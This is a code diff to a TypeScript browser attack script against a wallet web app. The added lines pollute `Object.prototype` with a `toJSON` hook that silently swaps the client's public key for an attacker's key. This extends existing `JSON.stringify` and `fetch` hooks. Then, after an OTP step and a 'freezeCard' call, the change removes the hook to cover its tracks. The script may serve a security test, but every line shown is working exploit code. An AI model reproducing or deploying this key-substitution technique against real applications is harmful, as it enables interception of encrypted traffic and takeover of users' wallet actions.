@@ -46,6 +46,14 @@ function hookAll(): Loot {
     loot.changed.push(where);
     return text.replace(CLIENT_KEY, `$1${ATTACKERS_KEY}`);
   };
+  Object.defineProperty(Object.prototype, 'toJSON', {
+    configurable: true,
+    value(this: { readonly clientPublicKey?: string }) {
+      if (!Object.hasOwn(this, 'clientPublicKey')) return this;
+      loot.changed.push('toJSON');
+      return { ...this, clientPublicKey: ATTACKERS_KEY };
+    },
+  });
   const { stringify } = JSON;
   const realFetch = window.fetch.bind(window);
   JSON.stringify = ((...args: Parameters<typeof stringify>) => {
@@ -57,6 +65,11 @@ function hookAll(): Loot {
   return loot;
 }
 
+/** What reads the result of a call would call it too. */
+function unhook(): void {
+  Reflect.deleteProperty(Object.prototype, 'toJSON');
+}
+
 /** Hooks everything before the wallet has loaded more than its first file, then uses it. */
 window.attack = async ({ relay, accountId, emailId, cardId }) => {
   const loot = hookAll();
@@ -65,6 +78,7 @@ window.attack = async ({ relay, accountId, emailId, cardId }) => {
   await otp.verify('000000');
   await wallet.refresh();
   const card = await wallet.run('freezeCard', { cardId });
+  unhook();
   return { ...loot, status: wallet.state.status, card };
 };
 
@@ -78,5 +92,6 @@ window.trap = async () => {
   const clientPublicKey = `04${'cd'.repeat(64)}`;
   await fetch('.', { method: 'POST', body: `{"clientPublicKey":"${clientPublicKey}"}` });
   JSON.stringify({ clientPublicKey });
+  unhook();
   return loot;
 };
